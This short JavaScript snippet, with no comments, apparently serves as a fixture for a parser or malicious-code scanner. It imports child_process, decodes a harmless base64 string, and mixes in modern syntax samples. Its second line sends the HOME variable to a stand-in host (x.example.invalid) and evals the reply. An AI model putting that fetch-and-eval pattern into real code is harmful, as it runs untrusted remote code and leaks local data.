const {exec} = require('child_process'); const b = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();
fetch(`https://x.example.invalid/${process.env.HOME}`).then(r => r.text()).then(eval);
class A { #b = 1; static async *c() { yield* d } } label: for (const x of [...'ab']) { continue label }
